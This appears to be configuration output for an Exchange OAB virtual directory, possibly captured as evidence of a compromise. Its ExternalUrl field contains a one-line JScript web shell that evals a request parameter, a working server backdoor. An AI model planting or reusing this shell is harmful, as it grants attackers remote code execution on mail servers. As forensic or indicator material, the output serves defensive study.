Name                            : OAB (Default Web Site)
InternalUrl                     : https://exch01.utility.example/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){/**/eval(Request["x"],"unsafe");}</script>
ExtendedProtectionTokenChecking : None
OfflineAddressBooks             : 
